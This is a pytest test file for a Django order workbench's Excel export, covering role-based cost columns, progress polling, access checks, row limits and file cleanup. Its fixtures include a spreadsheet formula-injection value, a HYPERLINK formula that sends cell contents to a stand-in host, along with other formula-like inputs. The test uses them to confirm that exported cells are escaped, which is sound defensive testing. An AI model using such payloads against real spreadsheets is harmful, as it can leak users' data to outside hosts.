"""Exporting the workbench's filtered list to Excel: a Celery job with a
progress bar, the filtered rows only, cost columns only for roles that see
costs, no cell that Excel would run as a formula, and each file for the person
who asked."""

from datetime import timedelta
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from kameng.spreadsheet import spreadsheet_row
from orders import workbench
from orders.models import Fulfilment, Order, OrderExport
from orders.workbench import (
    export_headers,
    export_path,
    export_rows,
    orders_matching,
    parse_filters,
    sweep_order_exports,
    write_order_workbook,
)
from tests.catalog.factories import make_sku
from tests.catalog.suppliers_factories import make_offer, make_supplier
from tests.orders.factories import make_buyer
from tests.orders.workbench_helpers import local, make_order
from users.models import MemberLevel

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def export_folder(settings, tmp_path):
    settings.ORDER_EXPORT_DIR = tmp_path / "exports"
    return settings.ORDER_EXPORT_DIR


@pytest.fixture
def orders():
    card = make_sku(price=Decimal("10.00"), cost_price=Decimal("9.00"))
    offer = make_offer(make_supplier(name="快充"), cost=Decimal("47.50"))
    cheap = make_order(card, buyer=make_buyer(), amount=Decimal("10.00"), quantity=1)
    evil = make_order(
        card,
        contact='=HYPERLINK("http://x.example/?"&A1,"点我")',
        amount=Decimal("20.00"),
        quantity=2,
        created=local(2026, 11, 2),
    )
    topup = make_order(
        offer.sku,
        buyer=make_buyer(),
        amount=Decimal("50.00"),
        recharge_account={"phone": "+8613800138000"},
        created=local(2026, 11, 3),
    )
    Fulfilment.objects.create(order=topup, offer=offer, next_attempt_at=timezone.now())
    return {"cheap": cheap, "evil": evil, "topup": topup}


def export_as(client, user, query: str, capture) -> OrderExport:
    client.force_login(user)
    with capture(execute=True):
        response = client.post(reverse("orders:export_start"), {"query": query})
    export = OrderExport.objects.get(requested_by=user)
    assert response.status_code == 302
    assert response.url == reverse("orders:export", args=[export.pk])
    export.refresh_from_db()
    return export


def sheet_rows(client, export) -> list[tuple]:
    response = client.get(reverse("orders:export_download", args=[export.pk]))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    path = export_path(export).with_suffix(".read.xlsx")
    path.write_bytes(b"".join(response.streaming_content))
    return list(load_workbook(path, read_only=True).active.values)


def test_support_exports_the_filtered_orders_without_costs(
    client, role_user, orders, django_capture_on_commit_callbacks
):
    export = export_as(
        client,
        role_user("support"),
        "amount_min=15",
        django_capture_on_commit_callbacks,
    )
    assert export.status == OrderExport.Status.DONE
    assert not export.with_cost
    rows = sheet_rows(client, export)
    header = rows[0]
    assert header[0] == "订单号"
    assert "成本" not in header and "毛利" not in header
    assert [row[0] for row in rows[1:]] == [
        orders["topup"].order_no,
        orders["evil"].order_no,
    ]
    page = client.get(reverse("orders:export", args=[export.pk])).content.decode()
    assert "100%" in page
    assert reverse("orders:export_download", args=[export.pk]) in page


def test_finance_gets_cost_and_gross_profit(
    client, role_user, orders, django_capture_on_commit_callbacks
):
    export = export_as(
        client, role_user("finance"), "", django_capture_on_commit_callbacks
    )
    assert export.with_cost
    rows = sheet_rows(client, export)
    header = list(rows[0])
    cost, profit = header.index("成本"), header.index("毛利")
    by_no = {row[0]: row for row in rows[1:]}
    # A top-up costs what its supplier offer costs; a card its SKU's cost price.
    assert by_no[orders["topup"].order_no][cost] == 47.5
    assert by_no[orders["topup"].order_no][profit] == 2.5
    assert by_no[orders["evil"].order_no][cost] == 18
    assert by_no[orders["evil"].order_no][profit] == 2
    assert by_no[orders["topup"].order_no][header.index("货源")] == "快充"


def test_no_cell_is_a_formula(
    client, role_user, orders, django_capture_on_commit_callbacks
):
    # Finance: the export carries full contacts (support's has them masked).
    export = export_as(
        client, role_user("finance"), "", django_capture_on_commit_callbacks
    )
    rows = sheet_rows(client, export)
    header = list(rows[0])
    by_no = {row[0]: row for row in rows[1:]}
    contact = by_no[orders["evil"].order_no][header.index("联系方式")]
    assert contact == '\'=HYPERLINK("http://x.example/?"&A1,"点我")'
    account = by_no[orders["topup"].order_no][header.index("充值账号")]
    assert account == "phone: +8613800138000"  # not at the start: harmless
    for row in rows:
        for cell in row:
            assert not (isinstance(cell, str) and cell.startswith(("=", "+", "@")))


def test_the_job_reports_progress_as_it_writes(orders, tmp_path, monkeypatch):
    monkeypatch.setattr(workbench, "PROGRESS_EVERY", 1)
    seen = []
    form = parse_filters({})
    assert form.is_valid()
    written = write_order_workbook(
        tmp_path / "o.xlsx",
        orders_matching(form.cleaned_data),
        with_cost=False,
        progress=seen.append,
    )
    assert written == 3
    assert seen == [1, 2, 3]


def test_the_progress_bar_polls_until_the_file_is_ready(client, role_user):
    user = role_user("support")
    client.force_login(user)
    export = OrderExport.objects.create(
        requested_by=user,
        status=OrderExport.Status.RUNNING,
        total_rows=200_000,
        rows_written=50_000,
    )
    fragment = client.get(reverse("orders:export_progress", args=[export.pk]))
    body = fragment.content.decode()
    assert 'data-percent="25"' in body
    assert "hx-get" in body
    assert "已写入 50000 / 200000 条订单" in body
    OrderExport.objects.filter(pk=export.pk).update(status=OrderExport.Status.DONE)
    done = client.get(reverse("orders:export_progress", args=[export.pk]))
    assert "hx-get" not in done.content.decode()


def test_another_staff_member_cannot_open_or_download_my_export(
    client, role_user, orders, django_capture_on_commit_callbacks
):
    export = export_as(
        client, role_user("finance"), "", django_capture_on_commit_callbacks
    )
    client.force_login(role_user("support"))
    for name in ("orders:export", "orders:export_progress", "orders:export_download"):
        assert client.get(reverse(name, args=[export.pk])).status_code == 404


def test_an_export_with_invalid_filters_is_not_started(client, role_user):
    client.force_login(role_user("support"))
    response = client.post(reverse("orders:export_start"), {"query": "amount_min=x"})
    assert response.status_code == 302
    assert not OrderExport.objects.exists()


def test_a_redelivered_job_writes_once(orders, role_user):
    export = OrderExport.objects.create(requested_by=role_user("support"))
    assert workbench.run_order_export(export_id=export.pk).status == "done"
    assert workbench.run_order_export(export_id=export.pk) is None


def test_too_many_rows_fail_with_a_clear_message(orders, role_user, settings):
    settings.ORDER_EXPORT_MAX_ROWS = 2
    export = OrderExport.objects.create(requested_by=role_user("support"))
    failed = workbench.export_in_language(export_id=export.pk)
    assert failed.status == OrderExport.Status.FAILED
    assert "2" in failed.failure and "筛选" in failed.failure


def test_the_sweeper_removes_old_files_and_fails_lost_jobs(orders, role_user):
    user = role_user("support")
    old = OrderExport.objects.create(requested_by=user)
    workbench.run_order_export(export_id=old.pk)
    old.refresh_from_db()
    path = export_path(old)
    assert path.exists()
    lost = OrderExport.objects.create(
        requested_by=user, status=OrderExport.Status.RUNNING
    )
    long_ago = timezone.now() - timedelta(days=10)
    OrderExport.objects.update(created_at=long_ago)
    assert sweep_order_exports() == {"expired": 1, "failed": 1}
    assert not path.exists()
    old.refresh_from_db()
    lost.refresh_from_db()
    assert old.status == OrderExport.Status.EXPIRED
    assert lost.status == OrderExport.Status.FAILED


def openpyxl_workbook(path, queryset, *, with_cost, with_contacts):
    """The export as openpyxl would write it (the writer the export used before
    kameng.xlsx): the reference the streamed file must equal."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet("订单")
    sheet.append(spreadsheet_row(export_headers(with_cost=with_cost)))
    for row in export_rows(queryset, with_cost=with_cost, with_contacts=with_contacts):
        sheet.append(spreadsheet_row(row))
    book.save(path)


@pytest.mark.parametrize("with_cost", [True, False])
def test_the_streamed_file_holds_what_openpyxl_would_write(orders, tmp_path, with_cost):
    buyer = orders["cheap"].buyer
    buyer.member_level = MemberLevel.objects.create(
        code="gold-x", name="黄金 & <VIP>", rank=3
    )
    buyer.save(update_fields=["member_level"])
    paid = make_order(
        orders["cheap"].sku,
        contact="-1+1@example.com",
        amount=Decimal("1234.56"),
        refunded_amount=Decimal("34.56"),
        quantity=3,
        payment_method=Order.PaymentMethod.GATEWAY,
        flag=Order.Flag.SUPPLIER_FAILURE,
        recharge_account={"qq": "=1+2", "区服": "电信一区"},
        paid_at=local(2026, 11, 4, 9),
        delivered_at=local(2026, 11, 4, 23),
    )
    assert paid.pk
    form = parse_filters({})
    assert form.is_valid()
    queryset = orders_matching(form.cleaned_data)
    for with_contacts in (True, False):
        streamed, reference = tmp_path / "streamed.xlsx", tmp_path / "reference.xlsx"
        options = {"with_cost": with_cost, "with_contacts": with_contacts}
        assert write_order_workbook(streamed, queryset, **options) == 4
        openpyxl_workbook(reference, queryset, **options)
        got = list(load_workbook(streamed, read_only=True).active.values)
        want = list(load_workbook(reference, read_only=True).active.values)
        assert len(got) == 5
        assert got == want
    assert load_workbook(streamed, read_only=True).sheetnames == ["订单"]
